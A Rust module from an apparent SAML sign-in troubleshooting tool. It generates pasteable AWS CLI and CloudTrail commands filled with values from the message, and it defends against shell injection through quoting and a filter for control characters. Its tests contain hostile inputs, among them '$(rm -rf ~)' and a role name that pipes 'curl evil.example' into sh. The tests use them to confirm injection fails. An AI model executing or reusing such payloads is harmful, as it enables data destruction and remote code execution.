//! Next steps with the user's values filled in: AWS CLI commands, what to look for in
//! the role's trust policy, CloudTrail lookups around the capture time.
//!
//! Every value taken from the message goes through [`shell_quote`], because a Role value
//! is attacker-controlled text and the commands are meant to be pasted into a shell.

use super::common::{attribute_values, iam_endpoints, sign_in_region};
use super::context::{Context, Pack, TimeSource};
use super::select::PackChoice;
use crate::aws::attributes::{
    PRINCIPAL_TAG_PREFIX, ROLE, SESSION_DURATION, SOURCE_IDENTITY, TRANSITIVE_TAG_KEYS,
};
use crate::aws::{self, Endpoint, lenient_role_value};
use crate::text::quote;
use serde::Serialize;

/// One thing to do next.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, serde::Deserialize)]
pub struct NextStep {
    /// One line: "Check the role's trust policy".
    pub title: String,
    /// A command to copy, with the message's values filled in, when there is one.
    pub command: Option<String>,
    /// What to look for in its output.
    pub detail: String,
}

/// How many distinct roles get their own `get-role` step. A Role attribute usually has
/// one to a handful of values; a hostile one can have thousands, and a list of commands
/// that long helps nobody.
const ROLE_STEPS: usize = 5;
/// How far either side of the capture time the CloudTrail lookups reach, in seconds:
/// events land in CloudTrail within minutes, and IdP clocks drift by a few.
const CLOUDTRAIL_WINDOW_SECONDS: i64 = 15 * 60;

/// Quotes `value` for a POSIX shell: left bare when it is only characters no shell
/// treats specially (`[A-Za-z0-9@%+=:,./_-]`), else in single quotes with each embedded
/// `'` written as `'\''`. Nothing inside single quotes is special to the shell, so no
/// value can end the argument or start another command.
pub fn shell_quote(value: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c);
    if !value.is_empty() && value.chars().all(plain) {
        return value.to_owned();
    }
    let mut quoted = String::with_capacity(value.len() + 2);
    quoted.push('\'');
    for c in value.chars() {
        if c == '\'' {
            quoted.push_str("'\\''");
        } else {
            quoted.push(c);
        }
    }
    quoted.push('\'');
    quoted
}

fn step(title: impl Into<String>, command: Option<String>, detail: impl Into<String>) -> NextStep {
    NextStep {
        title: title.into(),
        command,
        detail: detail.into(),
    }
}

/// The next steps for one message, given the packs that ran.
pub fn suggest(context: &Context<'_>, packs: &[PackChoice]) -> Vec<NextStep> {
    let ran = |pack: Pack| packs.iter().any(|choice| choice.pack == pack);
    let mut steps = Vec::new();
    if ran(Pack::AwsIam) {
        iam_steps(context, ran(Pack::AmazonConnect), &mut steps);
    }
    if ran(Pack::AwsIdentityCenter) {
        identity_center_steps(context, &mut steps);
    }
    steps
}

/// The time the lookups are centred on: the capture time, else the reference time.
/// Whether a value may go into a command shown to be pasted: no control characters
/// (a terminal escape or a line break would act when displayed or pasted) and no
/// invisible formatting characters (bidirectional overrides make a command read
/// differently from what runs).
fn pasteable(value: &str) -> bool {
    !value.chars().any(|c| {
        c.is_control()
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
    })
}

/// The time the lookups are centred on: the HAR capture time, else the time the user
/// chose, else the message's IssueInstant (the clock says nothing about when the
/// sign-in happened), else the reference time.
fn around(context: &Context<'_>) -> crate::timestamp::Timestamp {
    if let Some(captured_at) = context.origin.captured_at {
        return captured_at;
    }
    if context.reference_time.source == TimeSource::User {
        return context.now();
    }
    context
        .message
        .header()
        .and_then(|header| header.issue_instant.as_ref())
        .and_then(|instant| instant.parsed)
        .unwrap_or(context.now())
}

fn cloudtrail(context: &Context<'_>, event: &str, region: &str) -> String {
    let at = around(context);
    format!(
        "aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue={event} --start-time {} --end-time {} --region {}",
        at.plus_seconds(-CLOUDTRAIL_WINDOW_SECONDS),
        at.plus_seconds(CLOUDTRAIL_WINDOW_SECONDS),
        shell_quote(region)
    )
}

fn iam_steps(context: &Context<'_>, connect: bool, steps: &mut Vec<NextStep>) {
    let Some(assertion) = context.message.evaluated_assertion() else {
        return;
    };
    let roles = attribute_values(assertion, ROLE).unwrap_or_default();
    let mut seen_roles: Vec<&str> = Vec::new();
    let mut providers: Vec<&str> = Vec::new();
    let endpoint = iam_endpoints(context, assertion)
        .into_iter()
        .find(|(label, _, _)| *label == "Recipient")
        .map(|(_, url, _)| url.to_owned())
        .unwrap_or_else(|| aws::GLOBAL_SIGN_IN_URL.to_owned());
    let tags_sent = assertion.attributes.iter().any(|attribute| {
        attribute.name.starts_with(PRINCIPAL_TAG_PREFIX) || attribute.name == TRANSITIVE_TAG_KEYS
    });
    let source_identity_sent = attribute_values(assertion, SOURCE_IDENTITY).is_some();
    let duration_sent = attribute_values(assertion, SESSION_DURATION).is_some();
    for value in &roles {
        let (_, name, provider) = lenient_role_value(value);
        if let Some(provider) = provider
            && providers.len() < ROLE_STEPS
            && !providers.contains(&provider)
        {
            providers.push(provider);
        }
        let Some(name) = name else { continue };
        if seen_roles.contains(&name) || seen_roles.len() >= ROLE_STEPS {
            continue;
        }
        seen_roles.push(name);
        if !pasteable(name) {
            steps.push(step(
                "Fix the role name before looking the role up",
                None,
                format!(
                    "The role name {} holds control or invisible characters, so no command is offered for it; correct the Role value first (see aws.role.format).",
                    quote(name)
                ),
            ));
            continue;
        }
        let mut actions = vec!["\"sts:AssumeRoleWithSAML\""];
        if tags_sent {
            actions.push("\"sts:TagSession\"");
        }
        if source_identity_sent {
            actions.push("\"sts:SetSourceIdentity\"");
        }
        let mut detail = format!(
            "In Role.AssumeRolePolicyDocument, a statement must Allow {} for Principal {{\"Federated\": {}}} with a StringEquals condition on \"SAML:aud\" listing {}.",
            actions.join(", "),
            provider.map_or_else(|| "<the SAML provider ARN>".to_owned(), quote),
            endpoint
        );
        if tags_sent {
            detail.push_str(" The assertion sends session tags, so sts:TagSession is needed.");
        }
        if source_identity_sent {
            detail.push_str(
                " The assertion sends SourceIdentity, so sts:SetSourceIdentity is needed.",
            );
        }
        steps.push(step(
            format!("Check the trust policy of role {name}"),
            Some(format!(
                "aws iam get-role --role-name {}",
                shell_quote(name)
            )),
            detail,
        ));
        if duration_sent {
            steps.push(step(
                format!("Check the maximum session duration of role {name}"),
                Some(format!(
                    "aws iam get-role --role-name {} --query Role.MaxSessionDuration",
                    shell_quote(name)
                )),
                "The SessionDuration the assertion asks for must not exceed this number of seconds (default 3600), or AWS refuses with \"Requested DurationSeconds exceeds MaxSessionDuration set for this role\".",
            ));
        }
    }
    let fingerprints: Vec<String> = context
        .message
        .signatures
        .iter()
        .flat_map(|signature| &signature.certificates)
        .filter_map(|embedded| embedded.certificate.as_ref())
        .map(|certificate| certificate.sha256_fingerprint.clone())
        .fold(Vec::new(), |mut all, fingerprint| {
            if all.len() < ROLE_STEPS && !all.contains(&fingerprint) {
                all.push(fingerprint);
            }
            all
        });
    let certificate_detail = match fingerprints.as_slice() {
        [] => "The message carries no certificate to compare with; the provider's SAMLMetadataDocument must hold the IdP's current signing certificate.".to_owned(),
        [one] => format!(
            "Its SAMLMetadataDocument must hold the certificate the message was signed with, SHA-256 fingerprint {one} (e.g. save the X509Certificate as PEM and run openssl x509 -noout -fingerprint -sha256). A different certificate means the IdP rotated its key and the provider still holds the old one (\"Response signature invalid\")."
        ),
        many => format!(
            "Its SAMLMetadataDocument must hold the certificate the message was signed with; the message carries {} certificates with SHA-256 fingerprints {}.",
            many.len(),
            many.join(", ")
        ),
    };
    for provider in providers.iter().filter(|provider| pasteable(provider)) {
        steps.push(step(
            "Compare the SAML provider's certificate with the message's",
            Some(format!(
                "aws iam get-saml-provider --saml-provider-arn {}",
                shell_quote(provider)
            )),
            certificate_detail.clone(),
        ));
    }
    steps.push(step(
        "List the account's SAML providers",
        Some("aws iam list-saml-providers".to_owned()),
        if providers.is_empty() {
            "The Role attribute names no SAML provider ARN; it must name one of these (\"Specified provider doesn't exist\" otherwise).".to_owned()
        } else {
            format!(
                "{} must be listed, spelled exactly (account id included), or AWS says \"Specified provider doesn't exist\".",
                providers.iter().map(|provider| quote(provider)).collect::<Vec<_>>().join(", ")
            )
        },
    ));
    let region = sign_in_region(context).unwrap_or_else(|| aws::GLOBAL_SIGN_IN_REGION.to_owned());
    steps.push(step(
        "Look for the sign-in in CloudTrail",
        Some(cloudtrail(context, "AssumeRoleWithSAML", &region)),
        format!(
            "AssumeRoleWithSAML events within 15 minutes of {} (run it in the account of the role); errorCode and errorMessage say why a sign-in was refused.",
            around(context)
        ),
    ));
    if connect {
        connect_steps(context, &roles, steps);
    }
}

fn connect_steps(context: &Context<'_>, roles: &[&str], steps: &mut Vec<NextStep>) {
    let Some(relay) = context.relay_state.and_then(aws::connect_relay_state) else {
        return;
    };
    let Some(role_arn) = roles
        .iter()
        .find_map(|value| aws::parse_role_value(value).ok())
        .map(|pair| pair.role)
    else {
        return;
    };
    let instance = format!(
        "arn:{}:connect:{}:{}:instance/{}",
        role_arn.partition, relay.region, role_arn.account, relay.instance_id
    );
    steps.push(step(
        "Check that the role may federate into the Connect instance",
        Some(format!(
            "aws iam simulate-principal-policy --policy-source-arn {} --action-names connect:GetFederationToken --resource-arns {}",
            shell_quote(role_arn.text),
            shell_quote(&format!("{instance}/user/*"))
        )),
        format!(
            "The role's permissions must allow connect:GetFederationToken on {instance}/user/${{aws:userid}}; without it Connect says \"Access denied, Please contact your AWS account administrator\"."
        ),
    ));
}

fn identity_center_steps(context: &Context<'_>, steps: &mut Vec<NextStep>) {
    let region = context.message.evaluated_assertion().and_then(|assertion| {
        let mut urls: Vec<&str> = Vec::new();
        if let Some(destination) = context
            .message
            .header()
            .and_then(|h| h.destination.as_deref())
        {
            urls.push(destination);
        }
        if let Some(conditions) = &assertion.conditions {
            urls.extend(
                conditions
                    .audience_restrictions
                    .iter()
                    .flatten()
                    .map(String::as_str),
            );
        }
        urls.into_iter().find_map(|url| match aws::endpoint(url) {
            Some(
                Endpoint::IdentityCenterAcs { region, .. }
                | Endpoint::IdentityCenterEntity { region, .. },
            ) => Some(region),
            _ => None,
        })
    });
    let Some(region) = region else {
        return;
    };
    steps.push(step(
        "Look for the sign-in in Identity Center's CloudTrail",
        Some(cloudtrail(context, "ExternalIdPDirectoryLogin", &region)),
        format!(
            "ExternalIdPDirectoryLogin events within 15 minutes of {} in {region}, the Identity Center region; a failed one names the reason (user not found, NameID mismatch, signature).",
            around(context)
        ),
    ));
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{AttributeSpec, PROVIDER_ARN, ROLE_ATTRIBUTE, ResponseSpec, analyze_xml};

    fn commands(spec: &ResponseSpec) -> Vec<String> {
        analyze_xml(&spec.xml())
            .next_steps
            .into_iter()
            .filter_map(|step| step.command)
            .collect()
    }

    #[test]
    fn quoting_survives_hostile_values() {
        let cases = [
            ("SamlReadOnly", "SamlReadOnly"),
            (
                "arn:aws:iam::111122223333:saml-provider/Example.IdP_1",
                "arn:aws:iam::111122223333:saml-provider/Example.IdP_1",
            ),
            ("a b", "'a b'"),
            ("a'b", "'a'\\''b'"),
            ("$(rm -rf ~)", "'$(rm -rf ~)'"),
            ("x; echo pwned", "'x; echo pwned'"),
            ("", "''"),
        ];
        for (value, expected) in cases {
            assert_eq!(shell_quote(value), expected);
        }
    }

    /// Splits a command as a POSIX shell would for single quotes (the only quoting we
    /// emit) and returns the words; a value that broke out would add words.
    fn shell_words(command: &str) -> Vec<String> {
        let mut words = Vec::new();
        let mut word = String::new();
        let mut in_word = false;
        let mut quoted = false;
        let mut chars = command.chars();
        while let Some(c) = chars.next() {
            match c {
                '\'' => {
                    quoted = !quoted;
                    in_word = true;
                }
                '\\' if !quoted => {
                    if let Some(next) = chars.next() {
                        word.push(next);
                    }
                    in_word = true;
                }
                ' ' if !quoted => {
                    if in_word {
                        words.push(std::mem::take(&mut word));
                        in_word = false;
                    }
                }
                other => {
                    word.push(other);
                    in_word = true;
                }
            }
        }
        if in_word {
            words.push(word);
        }
        words
    }

    #[test]
    fn a_hostile_role_name_stays_one_argument() {
        let hostile = "R';curl evil.example|sh;echo '";
        let value = format!("arn:aws:iam::111122223333:role/{hostile},{PROVIDER_ARN}");
        let spec =
            ResponseSpec::default().with_attribute(AttributeSpec::new(ROLE_ATTRIBUTE, &[&value]));
        let commands = commands(&spec);
        let get_role = commands
            .iter()
            .find(|command| command.starts_with("aws iam get-role"))
            .expect("a get-role step");
        let words = shell_words(get_role);
        assert_eq!(
            words,
            ["aws", "iam", "get-role", "--role-name", hostile],
            "{get_role}"
        );
    }

    #[test]
    fn control_characters_never_reach_a_command() {
        for hostile in ["R\u{9b}2J", "R\nrm", "R\u{85}x", "R\u{202e}nimda"] {
            let value = format!("arn:aws:iam::111122223333:role/{hostile},{PROVIDER_ARN}");
            let spec = ResponseSpec::default()
                .with_attribute(AttributeSpec::new(ROLE_ATTRIBUTE, &[&value]));
            let message = analyze_xml(&spec.xml());
            assert!(
                message.next_steps.iter().all(|step| step
                    .command
                    .as_deref()
                    .is_none_or(|command| !command.contains(hostile))),
                "{hostile:?}: {:#?}",
                message.next_steps
            );
            assert!(
                message
                    .next_steps
                    .iter()
                    .any(|step| step.command.is_none()
                        && step.detail.contains("control or invisible")),
                "{hostile:?}"
            );
        }
    }

    #[test]
    fn steps_are_prefilled_from_the_message() {
        let spec = ResponseSpec::default().with_attribute(AttributeSpec::new(
            &format!("{}Team", PRINCIPAL_TAG_PREFIX),
            &["ops"],
        ));
        let message = analyze_xml(&spec.xml());
        let all: Vec<String> = message
            .next_steps
            .iter()
            .map(|step| {
                format!(
                    "{} | {} | {}",
                    step.title,
                    step.command.clone().unwrap_or_default(),
                    step.detail
                )
            })
            .collect();
        let text = all.join("\n");
        for expected in [
            "aws iam get-role --role-name SamlReadOnly |",
            "sts:TagSession",
            "SAML:aud",
            "aws iam get-role --role-name SamlReadOnly --query Role.MaxSessionDuration",
            "aws iam get-saml-provider --saml-provider-arn arn:aws:iam::111122223333:saml-provider/ExampleIdP",
            "aws iam list-saml-providers",
            "AttributeValue=AssumeRoleWithSAML --start-time 2024-05-01T11:45:00Z --end-time 2024-05-01T12:15:00Z --region us-east-1",
        ] {
            assert!(text.contains(expected), "{expected:?} not in\n{text}");
        }
        assert!(!text.contains("sts:SetSourceIdentity"), "{text}");
    }

    #[test]
    fn identity_center_gets_its_own_cloudtrail_event() {
        let commands = commands(&ResponseSpec::identity_center());
        assert!(
            commands
                .iter()
                .any(|command| command.contains("ExternalIdPDirectoryLogin")
                    && command.ends_with("--region eu-west-1")),
            "{commands:#?}"
        );
        assert!(!commands.iter().any(|command| command.contains("get-role")));
    }
}
